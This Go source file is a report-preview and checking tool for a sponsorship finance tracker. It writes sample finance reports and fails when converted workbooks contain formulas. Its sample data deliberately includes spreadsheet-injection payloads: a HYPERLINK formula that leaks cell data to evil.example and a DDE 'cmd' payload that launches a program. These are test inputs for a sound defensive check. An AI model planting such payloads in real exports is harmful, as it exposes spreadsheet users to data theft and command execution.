// Command reportpreview writes every finance report from realistic sample data, with
// the real report builders over an in-memory source, so that `make report-previews` can
// render them with LibreOffice and a person can look at what finance opens.
//
//	go run ./infra/cmd/reportpreview [-out DIR] write  each report as DIR/<report>.xlsx and .csv
//	go run ./infra/cmd/reportpreview check FILE...     fail when a workbook holds a formula
//
// The sample is one fiscal year (2027) of requests in six currencies (JPY without
// decimals and KWD with three among them), payments and reversals, budgets and the
// audit trail, with long titles, names outside ASCII and hostile text a spreadsheet
// would run if it could. check opens workbooks LibreOffice made of the CSV files
// (imported with a semicolon as the separator and formulas evaluated, as in much of
// Europe) and fails when any cell holds a formula.
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/sponsorship-tracker/sponsorship-tracker/shared/money"
	"github.com/sponsorship-tracker/sponsorship-tracker/shared/reports"
	"github.com/sponsorship-tracker/sponsorship-tracker/shared/sponsorship"
	"github.com/sponsorship-tracker/sponsorship-tracker/shared/tabular"
)

func main() {
	out := flag.String("out", "artifacts/report-previews", "write: folder for the reports")
	flag.Usage = func() {
		fmt.Fprintln(os.Stderr, "usage: reportpreview [-out DIR] write | reportpreview check FILE...")
		flag.PrintDefaults()
	}
	flag.Parse()
	var err error
	switch flag.Arg(0) {
	case "write":
		err = write(*out)
	case "check":
		err = check(flag.Args()[1:])
	default:
		flag.Usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "reportpreview:", err)
		os.Exit(1)
	}
}

// write writes each report in XLSX and CSV: the whole fiscal year, and the audit trail
// of its first quarter.
func write(dir string) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	b := reports.Builder{Source: sample(), Calendar: sponsorship.FiscalCalendar{StartMonth: time.January}}
	for _, name := range reports.Reports {
		q := reports.Query{Report: name, FiscalYear: 2027}
		if name == "audit" {
			q = reports.Query{Report: name, From: "2027-01-01", To: "2027-03-31"}
		}
		for _, format := range []string{"xlsx", "csv"} {
			q.Format = format
			path := filepath.Join(dir, name+"."+format)
			if err := writeReport(b, q, path); err != nil {
				return fmt.Errorf("%s: %w", path, err)
			}
			fmt.Println(path)
		}
	}
	return nil
}

func writeReport(b reports.Builder, q reports.Query, path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	w, err := tabular.New(q.Format, f)
	if err != nil {
		return errors.Join(err, f.Close())
	}
	_, err = b.Write(context.Background(), q, w)
	return errors.Join(err, f.Close())
}

// check fails when a cell of any of the workbooks holds a formula.
func check(paths []string) error {
	if len(paths) == 0 {
		return errors.New("check: no workbooks")
	}
	var problems []error
	for _, path := range paths {
		f, err := excelize.OpenFile(path)
		if err != nil {
			return fmt.Errorf("%s: %w", path, err)
		}
		cells := 0
		for _, sheet := range f.GetSheetList() {
			rows, err := f.GetRows(sheet)
			if err != nil {
				return fmt.Errorf("%s: %w", path, err)
			}
			for i, row := range rows {
				for j := range row {
					cells++
					ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
					if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
						problems = append(problems, fmt.Errorf("%s: %s!%s holds the formula %q", path, sheet, ref, formula))
					}
				}
			}
		}
		_ = f.Close()
		fmt.Printf("%s: %d cells, no formula\n", path, cells)
	}
	return errors.Join(problems...)
}

// sample is the fiscal year 2027 of a foundation: requests of every kind in six
// currencies, approvals, payments (one reversed), budgets, and the audit trail.
func sample() *reports.MemorySource {
	src := &reports.MemorySource{}
	type req struct {
		kind                sponsorship.Kind
		title, event        string
		name, email, org    string
		currency, requested string
		approved            string // "" while undecided
		paid                []string
		status              sponsorship.Status
	}
	reqs := []req{
		{sponsorship.KindConference, "Silver sponsorship of the compiler and toolchains devroom", "FOSDEM 2027", "Anneliese Müller", "anneliese@fosdem.example", "FOSDEM VZW",
			"EUR", "5000.00", "5000.00", []string{"5000.00"}, sponsorship.StatusPaid},
		{sponsorship.KindTravel, "Travel to Linux Plumbers Conference to present the io_uring zero-copy receive work and meet the networking maintainers", "Linux Plumbers Conference 2027",
			"Kenji Sato", "kenji@example.jp", "Independent", "JPY", "284000", "284000", []string{"200000", "84000"}, sponsorship.StatusPaid},
		{sponsorship.KindProject, "Register allocator rewrite for the RISC-V backend", "riscv-regalloc", "Fatima Al-Sabah", "fatima@example.kw", "Gulf Open Source Lab",
			"KWD", "3750.500", "3500.250", []string{"1750.125"}, sponsorship.StatusPartiallyPaid},
		{sponsorship.KindConference, `=HYPERLINK("https://evil.example/?"&A1,"Click for the invoice")`, "Totally Legit Summit", "Mallory", "mallory@evil.example", "Evil Corp",
			"USD", "2500.00", "", nil, sponsorship.StatusSubmitted},
		{sponsorship.KindTravel, "Travel grant: RustConf keynote", "RustConf 2027", "Zoë Ó Briain", "zoe@example.ie", "Ferrous Systems",
			"USD", "3150.75", "3000.00", []string{"3000.00"}, sponsorship.StatusPaid},
		{sponsorship.KindProject, "Kernel CI: bisection bot; +10% faster builds", "kernelci-bisect", "Piotr Wiśniewski", "piotr@example.pl", "Collabora",
			"CHF", "18000.00", "15000.00", []string{"7500.00"}, sponsorship.StatusPartiallyPaid},
		{sponsorship.KindConference, "Gold sponsorship, PyCon JP", "PyCon JP 2027", "Haruka Tanaka", "haruka@pycon.example.jp", "PyCon JP Association",
			"JPY", "1500000", "1200000", nil, sponsorship.StatusApproved},
		{sponsorship.KindProject, "x;=cmd|' /C calc'!A0;y", "hostile-project", "Eve", "eve@evil.example", "Evil Corp",
			"GBP", "999.99", "", nil, sponsorship.StatusRejected},
		{sponsorship.KindTravel, "Speaker travel to Open Source Summit Europe", "OSS Europe 2027", "Ana Souza", "ana@example.br", "Independent",
			"EUR", "1240.00", "", nil, sponsorship.StatusWithdrawn},
		{sponsorship.KindConference, "Community booth at SeaGL", "SeaGL 2027", "Jordan Lee", "jordan@seagl.example", "SeaGL",
			"USD", "750.00", "750.00", []string{"750.00"}, sponsorship.StatusPaid},
	}
	finance := sponsorship.Actor{Role: sponsorship.RoleFinance, ID: "fin-1", Name: "Farah Finance"}
	start := time.Date(2027, time.January, 4, 9, 15, 0, 0, time.UTC)
	for i, r := range reqs {
		submitted := start.Add(time.Duration(i) * 79 * time.Hour)
		amount := mustMoney(r.currency, r.requested)
		rq := &sponsorship.Request{
			ID: fmt.Sprintf("01JQ%022d", i+1), Reference: fmt.Sprintf("ST-7ZQ4M-%05d", i+1), Status: r.status, FiscalYear: 2027,
			Content: sponsorship.Content{Kind: r.kind, Title: r.title, Amount: amount,
				Applicant: sponsorship.Applicant{Name: r.name, Email: r.email, Organization: r.org}},
			SubmittedAt: submitted, Paid: money.Money{Currency: r.currency},
		}
		switch r.kind {
		case sponsorship.KindConference:
			rq.Conference = &sponsorship.Conference{EventName: r.event}
		case sponsorship.KindTravel:
			rq.Travel = &sponsorship.Travel{EventName: r.event}
		default:
			rq.Project = &sponsorship.Project{Name: r.event}
		}
		event := func(at time.Time, typ sponsorship.EventType, who sponsorship.Actor, from, to sponsorship.Status, msg string, data map[string]string) {
			src.Events = append(src.Events, sponsorship.AuditEvent{RequestID: rq.ID, Type: typ, Actor: who, At: at, FromStatus: from, ToStatus: to,
				Message: msg, Data: data, Internal: typ == sponsorship.EventVoteCast})
		}
		applicant := sponsorship.Actor{Role: sponsorship.RoleApplicant, Name: r.name}
		event(submitted, sponsorship.EventSubmitted, applicant, "", sponsorship.StatusSubmitted, "", nil)
		decided := submitted.Add(6*24*time.Hour + 3*time.Hour + 27*time.Minute + 41*time.Second)
		reviewer := sponsorship.Actor{Role: sponsorship.RoleReviewer, ID: "rev-3", Name: "Rita Reviewer"}
		switch r.status {
		case sponsorship.StatusRejected:
			rq.DecidedAt = decided
			event(decided, sponsorship.EventRejected, reviewer, sponsorship.StatusSubmitted, sponsorship.StatusRejected, "Out of scope; =not our remit", nil)
		case sponsorship.StatusWithdrawn:
			rq.DecidedAt = decided
			event(decided, sponsorship.EventWithdrawn, applicant, sponsorship.StatusSubmitted, sponsorship.StatusWithdrawn, "Funded elsewhere.", nil)
		}
		if r.approved != "" {
			approved := mustMoney(r.currency, r.approved)
			rq.Approved, rq.DecidedAt = &approved, decided
			event(decided.Add(-time.Hour), sponsorship.EventVoteCast, reviewer, sponsorship.StatusSubmitted, sponsorship.StatusSubmitted, "",
				map[string]string{"choice": "approve", "round": "1"})
			event(decided, sponsorship.EventApproved, reviewer, sponsorship.StatusSubmitted, sponsorship.StatusApproved, "",
				map[string]string{"approved": r.approved, "currency": r.currency})
		}
		for j, value := range r.paid {
			paidOn := decided.AddDate(0, 0, 14+10*j)
			p := sponsorship.Payment{ID: fmt.Sprintf("pay-%02d-%d", i+1, j+1), RequestID: rq.ID, Reference: rq.Reference, FiscalYear: 2027,
				Category: r.kind, Amount: mustMoney(r.currency, value), Date: paidOn.Format("2006-01-02"), Method: "bank_transfer",
				ExternalRef: fmt.Sprintf("SEPA-2027-%04d", 17*(i+1)+j), Note: "Milestone " + fmt.Sprint(j+1), RecordedBy: finance,
				RecordedAt: paidOn.Add(15*time.Hour + 2*time.Minute + 7*time.Second)}
			src.Payments = append(src.Payments, p)
			before := sponsorship.StatusApproved
			if j > 0 {
				before = sponsorship.StatusPartiallyPaid
			}
			rq.Paid, _ = rq.Paid.Add(p.Amount)
			rq.PaidOn = p.Date
			after := sponsorship.StatusPartiallyPaid
			if rq.Paid.Minor == rq.Approved.Minor {
				after = sponsorship.StatusPaid
			}
			event(p.RecordedAt, sponsorship.EventPaymentRecorded, finance, before, after, "",
				map[string]string{"amount": value, "currency": r.currency, "payment": p.ID})
		}
		src.Requests = append(src.Requests, rq)
	}
	// A payment sent twice by the bank, and its reversal.
	twice := src.Payments[0]
	twice.ID, twice.Date, twice.ExternalRef, twice.Note = "pay-01-9", "2027-02-12", "SEPA-2027-0099", "Sent twice by the bank"
	twice.RecordedAt = time.Date(2027, time.February, 12, 16, 20, 5, 0, time.UTC)
	reversal := twice
	reversal.ID, reversal.Amount.Minor, reversal.Reverses, reversal.Note = "pay-01-10", -twice.Amount.Minor, twice.ID, "-Reversal of a duplicate"
	reversal.Date, reversal.RecordedAt = "2027-02-15", time.Date(2027, time.February, 15, 9, 1, 30, 0, time.UTC)
	src.Payments = append(src.Payments, twice, reversal)

	for _, b := range []struct {
		kind      sponsorship.Kind
		currency  string
		allocated string
		committed string
		paid      string
	}{
		{sponsorship.KindConference, "EUR", "40000.00", "0.00", "5000.00"},
		{sponsorship.KindConference, "JPY", "3000000", "1200000", "0"},
		{sponsorship.KindConference, "USD", "20000.00", "0.00", "750.00"},
		{sponsorship.KindTravel, "JPY", "1000000", "0", "284000"},
		{sponsorship.KindTravel, "USD", "15000.00", "0.00", "3000.00"},
		{sponsorship.KindProject, "CHF", "60000.00", "7500.00", "7500.00"},
		{sponsorship.KindProject, "KWD", "10000.000", "1750.125", "1750.125"},
	} {
		src.Budget = append(src.Budget, sponsorship.Budget{FiscalYear: 2027, Category: b.kind, Currency: b.currency,
			Allocated: mustMoney(b.currency, b.allocated).Minor, Committed: mustMoney(b.currency, b.committed).Minor, Paid: mustMoney(b.currency, b.paid).Minor})
	}
	return src
}

func mustMoney(currency, value string) money.Money {
	m, err := money.Parse(currency, value)
	if err != nil {
		panic(fmt.Sprintf("sample amount %s %s: %v", value, currency, err))
	}
	return m
}
